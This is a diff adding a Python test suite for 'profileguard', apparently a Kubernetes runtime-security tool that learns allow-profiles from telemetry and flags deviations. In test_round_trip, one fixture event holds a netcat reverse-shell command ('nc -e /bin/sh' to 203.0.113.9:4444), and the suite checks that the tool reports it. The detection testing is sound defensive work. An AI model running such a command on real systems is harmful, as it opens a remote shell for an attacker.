@@ -1,0 +1,153 @@
+#!/usr/bin/env python3
+"""learn and check --events: telemetry -> learn -> profile -> judged by the
+same runtime rules the controller uses.  The learned profile allows the
+events it came from and flags a new executable and a new destination."""
+import json
+import os
+import subprocess
+import tempfile
+import unittest
+
+BIN = os.environ.get("PROFILEGUARD", "build/src/cmd/profileguard")
+ROOT = os.environ.get("SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "..", ".."))
+DATA = os.path.join(ROOT, "tests", "data", "telemetry")
+POD = os.path.join(ROOT, "examples", "manifests", "good", "payments-pod.yaml")
+
+
+def run(*args, stdin=None):
+    p = subprocess.run([BIN, *args], input=stdin, capture_output=True, text=True, timeout=60)
+    return p.returncode, p.stdout, p.stderr
+
+
+def native(kind, **kw):
+    ev = {"kind": kind, "time": "2026-11-22T11:00:00Z", "node": "node-a",
+          "pod": {"namespace": "payments", "name": "payments-api-7d9f-x2"}, "container": "api"}
+    ev.update(kw)
+    return json.dumps(ev)
+
+
+class Learn(unittest.TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.dir = self.tmp.name
+        # audit events without the stale-token sample: learn cannot allow a stale token
+        with open(os.path.join(DATA, "audit.json")) as f:
+            audit = json.load(f)
+        audit["items"] = [i for i in audit["items"] if "authentication.k8s.io/stale-token" not in i.get("annotations", {})]
+        self.audit = self.path("audit.json", json.dumps(audit))
+        self.events = [os.path.join(DATA, "native.jsonl"), self.audit, os.path.join(DATA, "falco.json")]
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def path(self, name, text):
+        p = os.path.join(self.dir, name)
+        with open(p, "w") as f:
+            f.write(text)
+        return p
+
+    def learn(self, *extra, events=None):
+        args = ["learn", "--pod", POD, "--name", "payments-api", "--namespace", "payments", "--mode", "Enforce"]
+        for e in events or self.events:
+            args += ["-f", e]
+        return run(*args, *extra)
+
+    def test_round_trip(self):
+        rc, profile, err = self.learn()
+        self.assertEqual(rc, 0, err)
+        prof = self.path("learned.yaml", profile)
+        # the learned profile is valid and the pod it came from passes admission
+        rc, out, err = run("check", "-p", prof, "-f", POD)
+        self.assertEqual(rc, 0, out + err)
+        # the events it was learned from are all allowed
+        args = ["check", "-p", prof, "-f", POD]
+        for e in self.events:
+            args += ["--events", e]
+        rc, out, err = run(*args)
+        self.assertEqual(rc, 0, out + err)
+        self.assertIn("0 findings (0 Enforce)", out)
+        # a new executable and a new destination are flagged
+        new = self.path("new.jsonl", "\n".join([
+            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "203.0.113.9", "4444"]),
+            native("connect", daddr="198.51.100.7", dport=443, protocol="tcp"),
+            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp"),   # seen before: fine
+        ]) + "\n")
+        rc, out, err = run("check", "-p", prof, "-f", POD, "--events", new, "-o", "json")
+        self.assertEqual(rc, 1, out + err)
+        doc = json.loads(out)
+        findings = [f for r in doc["results"] if "findings" in r for f in r["findings"]]
+        self.assertEqual(sorted(f["reason"] for f in findings), ["UnexpectedEgress", "UnexpectedExecutable"])
+        self.assertIn('container "api": exec "/usr/bin/nc" not allowed by payments/payments-api runtime.executables',
+                      [f["message"] for f in findings])
+        self.assertIn('container "api": connect 198.51.100.7:443/tcp not allowed by payments/payments-api runtime.egress',
+                      [f["message"] for f in findings])
+        self.assertEqual(doc["summary"]["events"], {"judged": 3, "findings": 2, "enforce": 2, "unattributed": 0})
+
+    def test_profile_content(self):
+        rc, profile, err = self.learn()
+        self.assertEqual(rc, 0, err)
+        for want in ("  name: payments-api\n  namespace: payments\n",
+                     "    matchLabels:\n      app: payments-api\n  mode: Enforce\n",
+                     "    serviceAccountNames: [payments-api]\n",
+                     "    requireDigest: true\n",
+                     "      - /app/server\n      - /bin/sh\n      - /usr/bin/curl\n",
+                     '      - cidr: "10.96.0.10/32"\n        ports: [53]\n',
+                     '      - cidr: "10.96.14.2/32"\n        ports: [5432]\n',
+                     "      read:\n        - /etc/ssl/certs/ca-certificates.crt\n      write:\n        - /tmp/cache/session.db\n",
+                     "      - verbs: [get]\n        resources: [configmaps]\n        resourceNames: [payments-api-config]\n"):
+            self.assertIn(want, profile)
+        self.assertNotIn("app.kubernetes.io/version", profile)   # changes every release
+        self.assertNotIn("secrets", profile)                      # only in the stale-token sample
+
+    def test_deterministic(self):
+        _, a, _ = self.learn()
+        _, b, _ = self.learn(events=list(reversed(self.events)))
+        self.assertEqual(a, b)
+
+    def test_cidr_aggregation_is_exact(self):
+        ev = self.path("net.jsonl", "\n".join(
+            [native("connect", daddr=f"10.1.2.{i}", dport=443) for i in range(4)] +
+            [native("connect", daddr="10.1.2.4", dport=80),
+             native("connect", daddr="10.1.2.5", dport=443),
+             native("connect", daddr="fd00::1", dport=8443)]) + "\n")
+        rc, profile, err = self.learn(events=[ev])
+        self.assertEqual(rc, 0, err)
+        self.assertIn('      - cidr: "10.1.2.0/30"\n        ports: [443]\n', profile)
+        self.assertIn('      - cidr: "10.1.2.4/32"\n        ports: [80]\n', profile)
+        self.assertIn('      - cidr: "10.1.2.5/32"\n        ports: [443]\n', profile)
+        self.assertIn('      - cidr: "fd00::1/128"\n        ports: [8443]\n', profile)
+        self.assertIn("executables are not profiled", profile)   # no exec seen: not []
+
+    def test_bad_lines_still_print_but_exit_2(self):
+        ev = self.path("bad.jsonl", native("exec", exe="/app/server") + "\nnot json\n")
+        rc, profile, err = self.learn(events=[ev])
+        self.assertEqual(rc, 2)
+        self.assertIn("1 malformed events record skipped", err)
+        self.assertIn("      - /app/server\n", profile)
+
+    def test_without_pod_and_other_namespace(self):
+        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n" +
+                       native("exec", exe="/bin/evil", pod={"namespace": "other", "name": "x"}) + "\n")
+        rc, profile, err = run("learn", "-f", ev, "--name", "svc", "--namespace", "payments")
+        self.assertEqual(rc, 0, err)
+        self.assertIn("# no pod labels known: check this selector", profile)
+        self.assertIn("  mode: Audit\n", profile)
+        self.assertNotIn("/bin/evil", profile)
+        self.assertIn("1 skipped", err)
+        # and it is a valid profile
+        prof = self.path("p.yaml", profile)
+        rc, out, err = run("check", "-p", prof, "-f", POD)
+        self.assertEqual(rc, 0, out + err)
+
+    def test_usage(self):
+        rc, _, err = run("learn", "--name", "x")
+        self.assertEqual(rc, 2)
+        self.assertIn("need -f EVENTS", err)
+        rc, _, err = run("learn", "-f", "/nonexistent", "--name", "x", "--namespace", "y")
+        self.assertEqual(rc, 2)
+        rc, _, err = run("learn", "-f", "-", "--name", "x", "--namespace", "y", "--format", "syslog", stdin="")
+        self.assertEqual(rc, 2)
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
